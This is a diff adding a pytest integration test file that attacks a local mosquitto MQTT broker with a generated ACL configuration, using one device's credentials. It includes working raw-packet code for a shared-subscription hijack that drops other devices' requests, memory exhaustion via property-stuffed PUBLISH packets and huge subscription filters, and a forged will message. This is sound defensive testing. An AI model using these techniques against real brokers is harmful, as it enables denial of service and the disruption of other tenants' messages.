@@ -1,0 +1,243 @@
+"""Attack 14, real mosquitto with the generated config: what one device's credentials can
+do to other devices' topics through MQTT features the ACL file must also cover.
+
+Worked (strict xfail): a shared subscription in the bridges' group
+(``$share/modelward-bridges/<fleet>/repo/req/+``, the group name is fixed in
+``publisher/_bridge.py``) is granted (SUBACK QoS 1) although the device may read no
+request topic. mosquitto then hands the device its round-robin share of every other
+device's requests, finds on delivery that the ACL denies it, and drops them: with one such
+connection half of dev-2's requests never reach the bridge; with N connections (mosquitto
+cannot bound them per user) N/(N+1) of the fleet's requests are lost.
+
+Worked (strict xfail): ``max_queued_bytes`` counts payload bytes, not properties. A
+QoS 1 PUBLISH with an empty payload and ~200,000 empty user properties (1 MiB, inside
+``max_packet_size``) queued for the device's own parked session costs mosquitto ~12 MiB
+(one allocation per property): 20 of them grew it by 245 MiB, 40 by 489 MiB, linearly, up
+to ``max_queued_messages`` 4096 (~49 GiB).
+
+Worked (strict xfail): subscriptions are not bounded and not checked against the ACL at
+SUBSCRIBE: mosquitto grants (SUBACK 0) any filter, even ``x/...`` that matches no topic the
+device may read, and keeps it. 100 filters of 60 KB on one connection grew it by ~12 MiB,
+linearly; nothing in the generated config (or docs/brokers.md) bounds their number, and a
+persistent session keeps them for ``persistent_client_expiration`` after the device leaves.
+
+Resisted (passing tests, coverage):
+
+* a will message on another device's status topic (retained, empty: it would clear that
+  device's report) is accepted at CONNECT but never published: the report stays;
+* wildcard subscriptions (``#``, ``devices/+/status``, ...) deliver nothing of another
+  device.
+"""
+
+from __future__ import annotations
+
+import socket
+import ssl
+import struct
+import threading
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import paho.mqtt.client as mqtt
+import pytest
+from paho.mqtt.enums import CallbackAPIVersion
+from paho.mqtt.packettypes import PacketTypes
+from paho.mqtt.properties import Properties
+
+from simulator._pki import CertPair
+from tests.integration.test_a14_device_props import _recv_packet
+from tests.integration.test_i14_broker import (
+    FLEET,
+    Broker,
+    MiB,
+    _broker,
+    _park_sessions,
+    _s,
+    _varint,
+)
+
+T = f"modelward/{FLEET}"
+
+
+@pytest.fixture(scope="module")
+def broker(tmp_path_factory: pytest.TempPathFactory,
+           pki: tuple[CertPair, CertPair]) -> Iterator[Broker]:
+    yield from _broker(tmp_path_factory.mktemp("a14device"), pki)
+
+
+def _client(b: Broker, user: str, cid: str) -> mqtt.Client:
+    c = mqtt.Client(CallbackAPIVersion.VERSION2, client_id=cid,
+                    protocol=mqtt.MQTTv5)
+    c.username_pw_set(user, b.creds[user].read_text().strip())
+    c.tls_set(ca_certs=str(b.ca))
+    c.connect("127.0.0.1", b.handle.port, 30)
+    c.loop_start()
+    return c
+
+
+def _publish(b: Broker, user: str, topic: str, payload: bytes, retain: bool) -> None:
+    c = _client(b, user, f"{user}-pub-{time.monotonic_ns()}")
+    try:
+        c.publish(topic, payload, qos=1, retain=retain).wait_for_publish(10)
+    finally:
+        c.disconnect()
+        c.loop_stop()
+
+
+def _collect(b: Broker, user: str, sub: str, seconds: float = 0.7) -> list[tuple[str, bytes]]:
+    got: list[tuple[str, bytes]] = []
+    c = _client(b, user, f"{user}-sub-{time.monotonic_ns()}")
+    c.on_message = lambda _c, _u, m: got.append((m.topic, bytes(m.payload)))
+    try:
+        c.subscribe(sub, qos=1)
+        time.sleep(seconds)
+    finally:
+        c.disconnect()
+        c.loop_stop()
+    return got
+
+
+def test_a_will_on_another_devices_status_is_refused(broker: Broker) -> None:
+    _publish(broker, "dev-2", f"{T}/devices/dev-2/status", b"dev-2 report", retain=True)
+    ctx = ssl.create_default_context(cafile=str(broker.ca))
+    sock = ctx.wrap_socket(socket.create_connection(("127.0.0.1", broker.handle.port), 10),
+                           server_hostname="127.0.0.1")
+    pw = broker.creds["dev-1"].read_text().strip().encode()
+    # MQTT 3.1.1 CONNECT: user, password, will retain, will QoS 1, will flag, clean session
+    flags = 0x80 | 0x40 | 0x20 | 0x08 | 0x04 | 0x02
+    body = (_s(b"MQTT") + bytes([4, flags]) + struct.pack(">H", 60) + _s(b"dev-1-will")
+            + _s(f"{T}/devices/dev-2/status".encode()) + _s(b"") + _s(b"dev-1") + _s(pw))
+    try:
+        sock.sendall(b"\x10" + _varint(len(body)) + body)
+        ack = sock.recv(4)
+        sock.close()  # not a DISCONNECT: the will would be published now
+    except OSError:
+        ack = b""
+    assert ack[:1] in (b"\x20", b"")  # mosquitto 2 accepts the CONNECT, checks on publish
+    time.sleep(0.3)
+    assert _collect(broker, "modelward-operator", f"{T}/devices/dev-2/status") == \
+        [(f"{T}/devices/dev-2/status", b"dev-2 report")]
+
+
+@pytest.mark.xfail(strict=True, reason="mosquitto grants dev-1 $share/modelward-bridges/"
+                   ".../repo/req/+ and drops the share it may not read: half of dev-2's "
+                   "requests never reach the bridge")
+def test_a_shared_subscription_in_the_bridges_group_takes_no_request(broker: Broker) -> None:
+    got: list[str] = []
+    granted: list[int] = []
+    ready = threading.Event()
+    thief = _client(broker, "dev-1", "dev-1-thief")
+
+    def on_sub(_c: object, _u: object, _m: object, rcs: list[object], _p: object) -> None:
+        granted.extend(int(getattr(rc, "value", rc)) for rc in rcs)
+        ready.set()
+
+    thief.on_subscribe = on_sub
+    thief.on_message = lambda _c, _u, m: got.append(m.topic)
+    bridge = _client(broker, "modelward-bridge", "bridge-real")
+    seen: list[str] = []
+    bridge.on_message = lambda _c, _u, m: seen.append(m.topic)
+    try:
+        bridge.subscribe(f"$share/modelward-bridges/{T}/repo/req/+", qos=1)
+        thief.subscribe(f"$share/modelward-bridges/{T}/repo/req/+", qos=1)
+        assert ready.wait(10)
+        time.sleep(0.2)
+        dev2 = _client(broker, "dev-2", "dev-2-req")
+        try:
+            p = Properties(PacketTypes.PUBLISH)
+            p.CorrelationData = b"c"
+            for _ in range(10):
+                dev2.publish(f"{T}/repo/req/dev-2", b"{}", qos=1,
+                             properties=p).wait_for_publish(10)
+        finally:
+            dev2.disconnect()
+            dev2.loop_stop()
+        end = time.monotonic() + 5
+        while len(seen) < 10 and time.monotonic() < end:
+            time.sleep(0.05)
+    finally:
+        for c in (thief, bridge):
+            c.disconnect()
+            c.loop_stop()
+    assert got == []
+    assert len(seen) == 10, (granted, len(seen))
+
+
+@pytest.mark.parametrize("sub", ["#", f"{T}/#", f"{T}/devices/+/status",
+                                 f"{T}/devices/+/repo/resp", f"{T}/repo/req/+"])
+def test_wildcard_subscriptions_deliver_nothing_of_another_device(broker: Broker,
+                                                                   sub: str) -> None:
+    _publish(broker, "dev-2", f"{T}/devices/dev-2/status", b"dev-2 report", retain=True)
+    got = _collect(broker, "dev-1", sub, 0.5)
+    assert not [t for t, _ in got if "dev-2" in t], got
+
+
+@pytest.fixture
+def fresh_broker(tmp_path: Path, pki: tuple[CertPair, CertPair]) -> Iterator[Broker]:
+    yield from _broker(tmp_path, pki)
+
+
+def _publish_property_packets(b: Broker, n_msgs: int, n_props: int = 200_000) -> int:
+    """Raw MQTT 5 as dev-1: ``n_msgs`` QoS 1 PUBLISHes on its own status topic, empty
+    payload, ``n_props`` empty user properties each; the number acknowledged."""
+    ctx = ssl.create_default_context(cafile=str(b.ca))
+    sock = ctx.wrap_socket(socket.create_connection(("127.0.0.1", b.handle.port), 20),
+                           server_hostname="127.0.0.1")
+    pw = b.creds["dev-1"].read_text().strip().encode()
+    body = (_s(b"MQTT") + bytes([5, 0xC2]) + struct.pack(">H", 60) + b"\x00"
+            + _s(b"dev-1-props") + _s(b"dev-1") + _s(pw))
+    acks = 0
+    try:
+        sock.sendall(b"\x10" + _varint(len(body)) + body)
+        assert _recv_packet(sock)[2] == 0
+        props = b"\x26\x00\x00\x00\x00" * n_props
+        topic = f"{T}/devices/dev-1/status".encode()
+        for i in range(n_msgs):
+            var = _s(topic) + struct.pack(">H", i + 1) + _varint(len(props)) + props
+            sock.sendall(b"\x32" + _varint(len(var)) + var)
+            acks += _recv_packet(sock)[0] == 0x40
+    except OSError:
+        pass
+    finally:
+        sock.close()
+    return acks
+
+
+@pytest.mark.xfail(strict=True, reason="max_queued_bytes does not count properties: 12 "
+                   "property-only 1 MiB packets for a parked session grow mosquitto ~150 MiB")
+def test_property_only_packets_for_a_parked_session_do_not_grow_the_broker(
+        fresh_broker: Broker) -> None:
+    _park_sessions(fresh_broker, f"{T}/devices/dev-1/status", 1)
+    before = fresh_broker.rss()
+    _publish_property_packets(fresh_broker, 12)
+    time.sleep(0.3)
+    grown = fresh_broker.rss() - before
+    assert grown < 64 * MiB, f"broker grew by {grown >> 20} MiB for 12 MiB sent"
+
+
+@pytest.mark.xfail(strict=True, reason="mosquitto grants dev-1 any subscription filter (no "
+                   "ACL check at SUBSCRIBE, no count bound): 100 filters of 60 KB grow it "
+                   "~12 MiB, without limit")
+def test_subscriptions_outside_the_acl_do_not_grow_the_broker(fresh_broker: Broker) -> None:
+    b = fresh_broker
+    ctx = ssl.create_default_context(cafile=str(b.ca))
+    sock = ctx.wrap_socket(socket.create_connection(("127.0.0.1", b.handle.port), 20),
+                           server_hostname="127.0.0.1")
+    pw = b.creds["dev-1"].read_text().strip().encode()
+    body = (_s(b"MQTT") + bytes([4, 0xC2]) + struct.pack(">H", 60) + _s(b"dev-1-subs")
+            + _s(b"dev-1") + _s(pw))
+    codes: list[int] = []
+    try:
+        sock.sendall(b"\x10" + _varint(len(body)) + body)
+        assert _recv_packet(sock) == b"\x20\x00\x00"
+        before = b.rss()
+        for i in range(100):
+            var = struct.pack(">H", i + 1) + _s(f"x/{i}/".encode() + b"a" * 60000) + b"\x00"
+            sock.sendall(b"\x82" + _varint(len(var)) + var)
+        codes = [_recv_packet(sock)[-1] for _ in range(100)]
+        time.sleep(0.2)
+        grown = b.rss() - before
+    finally:
+        sock.close()
+    assert grown < 3 * MiB, f"broker grew by {grown / MiB:.1f} MiB; SUBACK codes {set(codes)}"
